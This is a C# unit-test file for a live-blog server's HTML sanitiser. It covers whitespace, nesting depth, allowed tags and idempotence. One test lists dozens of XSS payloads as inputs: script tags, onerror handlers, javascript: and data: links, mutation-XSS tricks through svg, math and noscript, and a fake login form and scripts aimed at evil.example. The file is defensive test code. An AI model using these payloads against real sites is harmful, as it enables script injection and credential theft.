using System.Text.RegularExpressions;
using CsCheck;
using LiveBlog.Server.Content;
using LiveBlog.Server.Content.Html;

namespace LiveBlog.Server.Tests.Content.Html;

public sealed partial class RichTextTests
{
    [Theory]
    [InlineData("aa\u000bbb", "aa bb")]
    [InlineData("aa\u000cbb", "aa bb")]
    [InlineData("aa\u0085bb", "aa bb")]
    [InlineData("aa\u001fbb", "aa bb")]
    [InlineData("aa \u0007 bb", "aa bb")]
    [InlineData("aa&#11;bb", "aa bb")]
    [InlineData("aa&#12;bb", "aa bb")]
    public void Controls_BetweenWords_AreASpace(string html, string text)
    {
        var clean = RichText.Of(html);
        Assert.Equal(text, clean.Text);
        Assert.Equal($"<p>{text}</p>", clean.Html);
    }

    [Theory]
    [InlineData("said<img alt='Bridge closed'>Drivers", "said Bridge closed Drivers")]
    [InlineData("Well<img alt='👍🏽'>done", "Well👍🏽done")]
    [InlineData("<img alt='Bridge closed'>, they said", "Bridge closed, they said")]
    [InlineData("It said (<img alt='Bridge closed'>)", "It said (Bridge closed)")]
    public void Description_OfAPicture_StandsApart_AndAnEmojiDoesNot(string html, string text) =>
        Assert.Equal(text, RichText.Of(html).Text);

    [Theory]
    [InlineData("<p>\u200b</p>", true)]
    [InlineData("<p>\u202e\ufe0f</p><p>\u2060</p>", true)]
    [InlineData("<p>\u200bx</p>", false)]
    [InlineData("<p>👩\u200d🚒</p>", false)]
    public void Text_OfInvisibleMarksAlone_IsEmpty(string html, bool isEmpty) => Assert.Equal(isEmpty, RichText.Of(html).IsEmpty);

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<p>x</p><script src=https://evil.example/x.js></script>")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<p onclick='alert(1)' onmouseover=alert(1)>x</p>")]
    [InlineData("<a href='javascript:alert(1)'>x</a>")]
    [InlineData("<a href='  jAvAsCrIpT&#58;alert(1)'>x</a>")]
    [InlineData("<a href='java\nscript:alert(1)'>x</a>")]
    [InlineData("<a href='\u0001javascript:alert(1)'>x</a>")]
    [InlineData("<a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<a href='vbscript:msgbox(1)'>x</a>")]
    [InlineData("<blockquote cite='javascript:alert(1)'>x</blockquote>")]
    [InlineData("<svg onload=alert(1)><p>x</p></svg>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<svg><foreignObject><p>x</p><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>")]
    [InlineData("<iframe src=https://evil.example></iframe>")]
    [InlineData("<object data=x></object><embed src=x>")]
    [InlineData("<style>*{display:none}</style><p style='position:fixed;inset:0'>x</p>")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example'>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>")]
    [InlineData("<!-- --!><img src=x onerror=alert(1)> -->")]
    [InlineData("<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>")]
    [InlineData("<title><img src=x onerror=alert(1)></title>")]
    [InlineData("<textarea><script>alert(1)</script></textarea>")]
    [InlineData("<select><option><script>alert(1)</script></select>")]
    [InlineData("<form action=https://evil.example><input name=password><button>Sign in</button></form>")]
    [InlineData("<p id=log class=pill name=main data-story=x>x</p>")]
    [InlineData("<p><b><i>unclosed")]
    [InlineData("<p <b <i")]
    [InlineData("</p></div></article></main><p>x</p>")]
    [InlineData("<a href=https://x.example target=_blank rel=opener ping=https://evil.example>x</a>")]
    public void Of_HostileMarkup_LeavesOnlyWhatAnEntryMayHold(string html) => AssertHarmless(RichText.Of(html).Html);

    [InlineData("<div><section><p>One</p></section><p>Two</p></div>", "<p>One</p><p>Two</p>")]
    [InlineData("<div>One</div><div>Two</div>", "<p>One</p><p>Two</p>")]
    [InlineData("<h2>Head</h2>text", "<h4>Head</h4><p>text</p>")]
    [InlineData("<p><span style='color:red'>Red</span> <font face=x>face</font></p>", "<p>Red face</p>")]
    [InlineData("<table><tr><td>Home<td>2<td>Away<td>1</table>", "<p>Home</p><p>2</p><p>Away</p><p>1</p>")]
    [InlineData("<p>A <a href=\"https://x.example/\">link</a></p>", "<p>A <a href=\"https://x.example/\" rel=\"noopener\">link</a></p>")]
    [InlineData("<p>A <a href=\"ftp://x.example/f\">file</a></p>", "<p>A file</p>")]
    [InlineData("<p title=\"x\">A <b title=\"x\">b</b></p>", "<p>A <strong>b</strong></p>")]
    [InlineData("<p><a href=\"https://x.example/\" title=\"x\">c</a></p>", "<p><a href=\"https://x.example/\" rel=\"noopener\">c</a></p>")]
    [InlineData("<p>5 &lt; 6 &amp; 7</p>", "<p>5 &lt; 6 &amp; 7</p>")]
    [InlineData("a <b> b</b> <i>c </i>d", "<p>a <strong>b</strong> <em>c </em>d</p>")]
    [InlineData(
        "<p>CO<sub>2</sub> m<sup>2</sup> <s>old</s> <u>new</u> <mark>x</mark></p>",
        "<p>CO<sub>2</sub> m<sup>2</sup> <s>old</s> <u>new</u> <mark>x</mark></p>"
    )]
    [InlineData("<b><p>x</b>y</p><p>z</p>", "<p><strong>xy</strong></p><p>z</p>")]
    [InlineData("<ul><li>a</li><ul><li>b</li></ul><li>c</li></ul>", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>")]
    [InlineData("<li>a<li>b<p>c", "<ul><li>a</li><li>b<p>c</p></li></ul>")]
    [InlineData("<ol start=3><li><p>a</p><p>b</p></li></ol>", "<ol start=\"3\"><li>a<p>b</p></li></ol>")]
    [InlineData(
        "<p lang=az>Salam <span lang=ar dir=rtl>سلام</span></p>",
        "<p lang=\"az\">Salam <span lang=\"ar\" dir=\"rtl\">سلام</span></p>"
    )]
    [InlineData("<pre>\n  a\n  b</pre>", "<pre>\n  a\n  b</pre>")]
    [InlineData("One<br><br><br>Two<br>", "<p>One<br><br>Two</p>")]
    [InlineData("<p>&nbsp;</p><p><br></p><p>x</p>", "<p>x</p>")]
    [InlineData("if x <y then", "<p>if x &lt;y then</p>")]
    [InlineData("&eacute;&#233;&#xe9;&copy &CounterClockwiseContourIntegral;&unknown;", "<p>ééé© ∳&amp;unknown;</p>")]
    [InlineData("plain words", "<p>plain words</p>")]
    [InlineData("", "")]
    [Theory]
    public void Of_OrdinaryMarkup_KeepsWhatIsSaid(string html, string expected) => Assert.Equal(expected, RichText.Of(html).Html);

    [Theory]
    [InlineData("<p lang='en-GB'>x</p>", "<p lang=\"en-GB\">x</p>")]
    [InlineData("<p lang='en&quot; onclick=&quot;x'>x</p>", "<p>x</p>")]
    [InlineData("<p lang='en_GB'>x</p>", "<p>x</p>")]
    [InlineData("<p lang='01234567890123456789012345678901234'>x</p>", "<p lang=\"01234567890123456789012345678901234\">x</p>")]
    [InlineData("<p lang='012345678901234567890123456789012345'>x</p>", "<p>x</p>")]
    [InlineData("<p dir=RTL>x</p>", "<p dir=\"rtl\">x</p>")]
    [InlineData("<p dir=auto>x</p>", "<p dir=\"auto\">x</p>")]
    [InlineData("<p dir=up>x</p>", "<p>x</p>")]
    [InlineData("<ol start=1><li>x</ol>", "<ol><li>x</li></ol>")]
    [InlineData("<ol start=0><li>x</ol>", "<ol start=\"0\"><li>x</li></ol>")]
    [InlineData("<ol start=9999><li>x</ol>", "<ol start=\"9999\"><li>x</li></ol>")]
    [InlineData("<ol start=10000><li>x</ol>", "<ol><li>x</li></ol>")]
    [InlineData("<ol start=-10000><li>x</ol>", "<ol><li>x</li></ol>")]
    [InlineData("<ol start='3 onclick=x'><li>x</ol>", "<ol><li>x</li></ol>")]
    [InlineData("<ul start=3><li>x</ul>", "<ul><li>x</li></ul>")]
    public void LangDirAndStart_AreKeptOnlyIfValid(string html, string expected) => Assert.Equal(expected, RichText.Of(html).Html);

    [Theory]
    [InlineData("<p style='visibility:hidden'>gone</p>")]
    [InlineData("<p hidden=''>gone</p>")]
    [InlineData("<input type=hidden value=gone>")]
    [InlineData("<p style='color:red;display:none'>gone</p>")]
    [InlineData("<div hidden><b>gone</b></div>")]
    public void HiddenElements_AreDropped(string html) => Assert.Equal("<p>kept</p>", RichText.Of($"{html}<p>kept</p>").Html);

    [Theory]
    [InlineData("<p hidden=until-found>kept</p>")]
    [InlineData("<p style='display:block'>kept</p>")]
    public void VisibleElements_AreKept(string html) => Assert.Equal("<p>kept</p>", RichText.Of(html).Html);

    [Fact]
    public void Of_WordProcessorPaste_IsCleanParagraphs()
    {
        const string Paste = """
            <html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style></head><body lang=EN-GB>
            <!--StartFragment--><p class=MsoNormal><b style='mso-bidi-font-weight:normal'>Minister</b> resigns<o:p></o:p></p>
            <p class=MsoNormal><span lang=EN-GB style='font-size:12.0pt'>She said &ldquo;enough&rdquo;.</span></p><!--EndFragment--></body></html>
            """;
        var body = RichText.Of(Paste);
        AssertHarmless(body.Html);
        Assert.Equal("Minister resigns She said “enough”.", body.Text);
        Assert.DoesNotContain("mso", body.Html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Text_KeepsWordsOfBlocksApart() =>
        Assert.Equal("One Two Three Four", RichText.Of("<p>One</p><ul><li>Two<ul><li>Three</li></ul></li></ul>Four<hr>").Text);

    [Theory]
    [InlineData("<p>a\0b</p>")]
    [InlineData("<p>\u202e\u200b\ufeff\ud83d\ude80 e\u0301</p>")]
    [InlineData("<p>\ud83d</p>")]
    [InlineData("<\0script>alert(1)</script>")]
    [InlineData("<a href='https://x.example/\0javascript:alert(1)'>x</a>")]
    public void Of_NulAndOddUnicode_IsHarmless(string html) => AssertHarmless(RichText.Of(html).Html);

    /// <summary>
    /// Serialising a tree is recursive, so a depth that passes the check crashes the whole process instead of throwing. Each of these is
    /// one way in which counting tags and parsing them can disagree.
    /// </summary>
    [Theory]
    [InlineData("", "<b>")]
    [InlineData("", "<blockquote>")]
    [InlineData("", "<div>")]
    [InlineData("", "<b/>")]
    [InlineData("</b>", "<b>")]
    [InlineData("</p>", "<b>")]
    [InlineData("<p></p>", "<i>")]
    [InlineData("<!--</b>-->", "<b>")]
    [InlineData("", "<b></i>")]
    [InlineData("", "<p><b>")]
    [InlineData("", "<ul><li>")]
    [InlineData("", "<svg>")]
    [InlineData("", "<math>")]
    [InlineData("", "<table><td>")]
    [InlineData("", "<a href=x>")]
    [InlineData("", "<blockquote x='>'>")]
    [InlineData("", "<b x=></b>")]
    public void Of_DeepNesting_DoesNotOverflowAndKeepsTheWords(string prefix, string tag)
    {
        const int Length = 64 * 1024;
        // Enough closing tags first that a count of tags would stay below zero.
        var half = prefix.Length == 0 ? 0 : Length * 3 / 5;
        var html = Repeat(prefix, half) + Repeat(tag, Length - half) + "said";
        var body = RichText.Of(html);
        AssertHarmless(body.Html);
        Assert.Contains("said", body.Text);
        Assert.True(Depth(body.Html) <= 64, $"{Depth(body.Html)} levels: a smaller stack would overflow");
    }

    [Fact]
    public void Of_ManyParagraphsThenALegitimateList_KeepsTheList()
    {
        var html = Repeat("<p>x</p>", 40 * 8) + "<ul><li>one<ul><li>two</li></ul></li></ul>";
        Assert.EndsWith("<ul><li>one<ul><li>two</li></ul></li></ul>", RichText.Of(html).Html);
    }

    [Fact]
    public void Of_AnyMarkup_IsHarmlessAndStaysAsItIsWhenCleanedAgain()
    {
        string[] pieces =
        [
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a href='https://x.example'>",
            "<a href=javascript:x>",
            "</a>",
            "<ul>",
            "<li>",
            "</ul>",
            "<h4>",
            "</h4>",
            "<blockquote>",
            "</blockquote>",
            "<div>",
            "</div>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<h1>",
            "</h1>",
            "<span lang=en>",
            "</span>",
            "<pre>",
            "</pre>",
            "\n",
            "\n\n",
            "<br>",
            "<hr>",
            "<svg>",
            "</svg>",
            "<math>",
            "<mtext>",
            "<style>",
            "</style>",
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "<template>",
            "</template>",
            "<noscript>",
            "<img src=x onerror=x>",
            "<p onclick=x>",
            "text",
            " ",
            "&lt;b&gt;",
            "&amp;",
            "<code>",
            "</code>",
            "<",
            ">",
            "\"",
            "'",
            "<ol start=3>",
            "</ol>",
            "<mark>",
            "<sub>",
            "<section>",
            "</section>",
            "<font>",
            "é",
            "<form>",
            "<select>",
            "<title>",
            "<blockquote cite=https://x.example/q>",
            "<footer>",
            "<q>",
            "<dl><dt>",
            "<dd>",
            "https://x.example/a",
            "<figure>",
            "<figcaption>",
            "<th>",
            "&nbsp;",
            "<button>",
        ];
        Gen.Int[0, pieces.Length - 1]
            .Select(piece => pieces[piece])
            .Array[0, 25]
            .Sample(
                parts =>
                {
                    var once = RichText.Of(string.Concat(parts));
                    AssertHarmless(once.Html);
                    var twice = RichText.Of(once.Html);
                    var content = BodyReader.Read(string.Concat(parts));
                    return once.Html == twice.Html && once.Text == twice.Text && BodyReader.Read(content.Body).Json == content.Json;
                },
                iter: 4_000,
                print: parts =>
                {
                    var once = RichText.Of(string.Concat(parts)).Html;
                    var body = BodyReader.Read(string.Concat(parts));
                    return $"{string.Concat(parts)}\n  once:  {once}\n  twice: {RichText.Of(once).Html}\n  body: {body.Body}\n  again: {BodyReader.Read(body.Body).Body}";
                }
            );
    }

    private static string Repeat(string text, int length) =>
        text.Length == 0 ? "" : string.Concat(Enumerable.Repeat(text, length / text.Length));

    /// <summary>Serialised HTML is well-formed, so here counting is right.</summary>
    private static int Depth(string html)
    {
        int depth = 0,
            deepest = 0;
        foreach (Match tag in TagPattern.Matches(html))
        {
            if (tag.Value is not ("<br>" or "<hr>"))
            {
                depth += tag.Value.StartsWith("</", StringComparison.Ordinal) ? -1 : 1;
                deepest = Math.Max(deepest, depth);
            }
        }
        return deepest;
    }

    /// <summary>Read by its letters and not by the parser that wrote it.</summary>
    private static void AssertHarmless(string html)
    {
        foreach (Match tag in TagPattern.Matches(html))
        {
            Assert.Matches(AllowedTagPattern, tag.Value);
        }
        Assert.DoesNotContain("<!", html);
        Assert.DoesNotContain('\0', html);
    }

    [GeneratedRegex("<[^<>]*>?")]
    private static partial Regex TagPattern { get; }

    [GeneratedRegex(
        """
            ^</?(p|br|strong|em|u|s|sub|sup|mark|a|span|ul|ol|li|blockquote|h4|hr|code|pre)(\ (lang|dir|start|rel)="[^"<>]*"|\ (href|cite)="((https?|mailto):[^"<>]*|[^":<>]*)")*>$
            """,
        RegexOptions.IgnorePatternWhitespace | RegexOptions.ExplicitCapture
    )]
    private static partial Regex AllowedTagPattern { get; }
}
